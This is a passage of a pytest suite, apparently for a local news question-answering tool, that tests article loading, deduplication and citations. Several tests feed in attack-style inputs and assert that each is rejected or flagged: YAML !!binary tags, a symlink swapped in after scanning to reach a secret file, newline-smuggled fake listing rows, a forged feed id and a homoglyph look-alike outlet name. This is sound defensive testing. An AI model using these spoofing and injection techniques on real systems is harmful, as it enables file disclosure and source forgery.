        (tmp_path / "a.json").write_text(json.dumps({"title": "A", "text": "The mayor spoke.", "source": indexed}))
        [article] = ArticleLoader(tmp_path, limits=LimitSettings()).load().articles
        chunk_filter, applied = resolve_filters(None, None, [typed.upper()], outlets=[article.source])
        assert article.source == composed
        assert applied.sources == [composed]
        assert chunk_filter.admits(0, __import__("index.filters").filters.source_key(article.source))


@pytest.mark.unit
def test_front_matter_values_must_be_plain(tmp_path):
    (tmp_path / "set.md").write_text("---\ntitle: !!set {a, b}\n---\nThe mayor spoke.\n")
    (tmp_path / "binary.md").write_text("---\nsource: !!binary aGVsbG8=\n---\nThe mayor spoke.\n")
    (tmp_path / "list.json").write_text(json.dumps({"title": ["a", "b"], "text": "The mayor spoke."}))
    (tmp_path / "fine.md").write_text("---\ntitle: Plain\ndate: 2025-01-02\n---\nThe mayor spoke.\n")
    result = ArticleLoader(tmp_path, limits=LimitSettings()).load()
    assert [(a.id, a.title, a.date) for a in result.articles] == [("fine.md", "Plain", "2025-01-02")]
    reasons = {s.path: s.reason for s in result.skipped}
    assert "a set as its `title`" in reasons["set.md"]
    assert "binary data as its `source`" in reasons["binary.md"]
    assert "a list as its `title`" in reasons["list.json"]


@pytest.mark.unit
def test_feed_entry_ids_belong_to_fetch(tmp_path):
    from index.uploads import save_uploads

    articles = tmp_path / "articles"
    (articles / "feeds").mkdir(parents=True)
    claim = tmp_path / "claim.md"
    claim.write_text("---\nid: feeds/0123456789abcdef.md\n---\nA fake version of a future feed entry.\n")
    refused = save_uploads([("claim.md", claim)], articles, max_bytes=10_000, reserved="feeds/")
    assert refused.saved == []
    assert "only `newsqa fetch` writes" in refused.refused[0]
    # placed in the folder by hand, it still cannot take the id from the entry saved at that path later
    (articles / "claim.md").write_text(claim.read_text())
    (articles / "feeds" / "0123456789abcdef.md").write_text("---\ntitle: Real\n---\nThe real feed entry.\n")
    result = ArticleLoader(articles, limits=LimitSettings()).load()
    assert [(a.id, a.path) for a in result.articles] == [("feeds/0123456789abcdef.md", "feeds/0123456789abcdef.md")]
    assert [s.path for s in result.skipped] == ["claim.md"]


@pytest.mark.unit
def test_a_file_swapped_for_a_link_after_the_scan_is_not_followed(tmp_path, monkeypatch):
    outside = tmp_path / "secret.txt"
    outside.write_text("The secret password is swordfish.")
    folder = tmp_path / "articles"
    folder.mkdir()
    story = folder / "story.txt"
    story.write_text("Zoo opens\n\nThe mayor opened the zoo on Monday.")
    loader = ArticleLoader(folder, limits=LimitSettings())
    scan = loader._files

    def scan_then_swap():  # the race, made certain: the scan has checked the file, then it becomes a link out
        for found in scan():
            story.unlink()
            story.symlink_to(outside)
            yield found

    monkeypatch.setattr(loader, "_files", scan_then_swap)
    result = loader.load()
    assert result.articles == []
    assert "outside the articles folder" in result.skipped[0].reason


@pytest.mark.unit
def test_one_warning_per_article_for_sentences_over_the_chunk_size(caplog):
    from index import Article, chunk_article

    text = ("the river bank water boat harbour crane " * 800)[:30_000]  # no punctuation: 30 runs of ~1,000 characters
    with caplog.at_level("WARNING"):
        chunks = chunk_article(Article(id="flat.txt", title="Flat", text=text, path="flat.txt"), chunk_size=600, chunk_overlap=150)
    messages = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert len(chunks) >= 30, messages
    assert len(messages) == 1, messages
    assert messages[0].startswith("flat.txt: ")
    assert "longer than the 600-character chunk size" in messages[0]


@pytest.mark.unit
def test_two_thousand_identical_stubs_are_one_story_quickly():
    from index.copies import StoryInput, story_ids

    stub = "Subscribe to continue reading. Already a subscriber? Log in to read the full story from our newsroom."
    items = [StoryInput(id=f"stub-{i:04d}", text=stub, date=f"2025-01-{1 + i % 28:02d}") for i in range(2000)]
    items.append(StoryInput(id="late", text=stub, date="2025-06-01"))  # the same words months later: another story
    started = time.monotonic()
    stories = story_ids(items)
    assert time.monotonic() - started < 15  # was ~20 s, quadratic (every pair of 2,000 in every band)
    assert set(stories.values()) == {"stub-0000", "late"}
    assert stories["stub-1999"] == "stub-0000"


@pytest.mark.integration
@pytest.mark.slow
def test_an_answer_lists_a_few_copies_and_counts_the_rest(tmp_path, embedder):
    from qa import Pipeline

    folder = tmp_path / "articles"
    folder.mkdir()
    wire = "Engineers closed the Kessel Bridge in Lorvik on Monday for eleven weeks of repairs to its corroded cables, the city said."
    for n in range(9):
        (folder / f"copy-{n}.json").write_text(json.dumps({"title": f"Copy {n}", "text": wire, "source": f"Outlet {n}"}))
    settings = Settings(articles_dir=folder, db_dir=tmp_path / "db")
    update_index(settings, embedder=embedder)
    [citation] = Pipeline(settings, embedder=embedder).ask("How long will the Kessel Bridge close?").citations[:1]
    assert len(citation.also_in) == 5
    assert citation.more_copies == 3
    assert citation.copy_names()[-1] == "3 more"


@pytest.mark.integration
@pytest.mark.slow
def test_a_chat_leaves_one_export_per_answer_not_one_per_streamed_sentence(trust_pipeline):
    import tempfile

    from ui.app import answer_stream, export_dir

    pipeline, _ = trust_pipeline

    def exports() -> set[Path]:
        return {*Path(tempfile.gettempdir()).glob("newsqa-conversation-*.md"), *export_dir().glob("newsqa-conversation-*.md")}

    earlier = [pipeline.ask("How many lions does the zoo have?").to_dict()]  # a conversation under way: there is something to export
    before = exports()
    updates = list(answer_stream(pipeline, "Who opened the zoo?", [], [], earlier))
    assert len(updates) >= 2  # the answer streamed
    assert [u[4] is None for u in updates[:-1]] == [True] * (len(updates) - 1)  # no file while it streams
    made = exports() - before
    assert len(made) == 1
    assert str(made.pop()) == updates[-1][4]


@pytest.mark.integration
@pytest.mark.slow
def test_a_title_or_outlet_with_line_breaks_adds_no_row_to_the_articles_listing(trust_pipeline, monkeypatch):
    from typer.testing import CliRunner

    from ui.cli import app

    pipeline, folder = trust_pipeline
    record = {"title": "Fake\nfeeds/x.md\t2025-01-01\tAP\t1\tFake row", "source": "AP\r\nmore", "text": "The mayor spoke at length."}
    (folder / "rows.json").write_text(json.dumps(record))
    update_index(pipeline.settings, store=pipeline.store)
    monkeypatch.setenv("NEWSQA_DB_DIR", str(pipeline.settings.db_dir))
    monkeypatch.setenv("NEWSQA_ARTICLES_DIR", str(folder))
    listed = CliRunner().invoke(app, ["articles"])
    rows = listed.output.rstrip("\n").splitlines()
    assert listed.exit_code == 0
    assert len(rows) == len(pipeline.catalog())
    assert all(row.count("\t") == 5 for row in rows)  # id, date, outlet, chunks, title, url: no field adds a column
    assert any(row.startswith("rows.json\t-\tAP more\t") for row in rows)


# ---------------------------------------------------------------- issue 26: a forged near-copy cannot take over a story

NIMBUS = (
    "{company}, a Pittsburgh startup that builds autonomous forklifts for warehouses, has raised 80 million dollars from investors "
    "in a Series B round led by Foundry Ventures. The company said it will use the money to triple its engineering team and open "
    "an office in Rotterdam. {company} was founded in 2021 by former Carnegie Mellon researchers Dana Okafor and Luis Brandt. Its "
    "forklifts already run in 40 warehouses across the United States, chief executive Dana Okafor said. Foundry Ventures partner "
    "Mei Tanaka will join the board of {company}."
)
FAKE_TECHCRUNCH = "T\u0435chCrunch"
"""TechCrunch with a Cyrillic е: it looks the same."""


def article(folder: Path, name: str, company: str, source: str, date: str = "2025-03-04") -> None:
    record = {
        "title": f"{company} raises $80M for warehouse robots",
        "date": date,
        "source": source,
        "text": NIMBUS.format(company=company),
    }
    (folder / name).write_text(json.dumps(record, ensure_ascii=False))


@pytest.fixture(scope="module")
def forged_copies(tmp_path_factory, embedder):
    """The real TechCrunch story; a word-for-word copy with the company swapped, a look-alike outlet, the same date and an id that
    sorts first; and a copy of the real one, word for word, from the same look-alike outlet, dated a day earlier."""
    from qa import Pipeline

    base = tmp_path_factory.mktemp("forged")
    folder = base / "articles"
    folder.mkdir()
    article(folder, "techcrunch-nimbus.json", "Nimbus Robotics", "TechCrunch")
    article(folder, "0-techcrunch-zephyr.json", "Zephyr Dynamics", FAKE_TECHCRUNCH)
    article(folder, "0-techcrunch-copy.json", "Nimbus Robotics", FAKE_TECHCRUNCH, date="2025-03-03")
    settings = Settings(articles_dir=folder, db_dir=base / "db")
    update_index(settings, embedder=embedder)
    return Pipeline(settings, embedder=embedder), folder


@pytest.mark.integration
def test_a_near_copy_with_another_name_does_not_take_over_the_story(forged_copies):
    pipeline, _ = forged_copies
    answer = pipeline.ask("How much did Nimbus Robotics raise from investors?")
    first = answer.citations[0]
    assert first.article_id == "techcrunch-nimbus.json", first
    assert "Nimbus Robotics" in first.quote and "80 million dollars" in first.quote
    assert "Zephyr" not in answer.text
    assert first.source == "TechCrunch"
    assert all(copy.article_id != "0-techcrunch-zephyr.json" for c in answer.citations for copy in c.also_in)  # not the same story
    stories = {e.id: e.story_id for e in pipeline.catalog()}
    assert stories["0-techcrunch-zephyr.json"] != stories["techcrunch-nimbus.json"]
    # the word-for-word copy is the same story, but its earlier date and id do not make it the one quoted, and it says what it is
    assert stories["0-techcrunch-copy.json"] == stories["techcrunch-nimbus.json"] == "0-techcrunch-copy.json"
    [copy] = first.also_in
    assert copy.article_id == "0-techcrunch-copy.json"
    assert first.copy_names() == [
        f"{FAKE_TECHCRUNCH} (look-alike name: mixes Cyrillic 'е' into Latin letters; not TechCrunch) (2025-03-03)"
    ]
    forged = pipeline.ask("How much did Zephyr Dynamics raise from investors?").citations[0]
    assert forged.article_id == "0-techcrunch-zephyr.json"  # the forgery answers for its own name only ...
    assert "look-alike" in forged.source_shown  # ... and its outlet is shown as what it is
    assert forged.source_shown.startswith(FAKE_TECHCRUNCH)


@pytest.mark.integration
def test_a_look_alike_outlet_is_never_taken_for_the_one_it_imitates(forged_copies):
    from qa.clues import read_descriptive
    from qa.outlets import read_named_sources
    from ui.cli import answer_lines
    from ui.render import render_answer

    pipeline, _ = forged_copies
    only_real = pipeline.ask("How much did Nimbus Robotics raise from investors?", sources=["techcrunch"])
    assert {c.article_id for c in only_real.citations} == {"techcrunch-nimbus.json"}
    assert only_real.citations[0].also_in == [] or all(c.source == FAKE_TECHCRUNCH for c in only_real.citations[0].also_in)
    asked = "Which company, according to TechCrunch, raised money for warehouse robots and opened an office?"
    named = read_descriptive(asked, read_named_sources(asked, pipeline.outlets()))
    assert named is not None and named.outlets == ["TechCrunch"]
    forged = pipeline.ask("How much did Zephyr Dynamics raise from investors?")
    for shown in (forged.to_markdown(), render_answer(forged), "\n".join(answer_lines(forged))):
        assert "look-alike name" in shown, shown
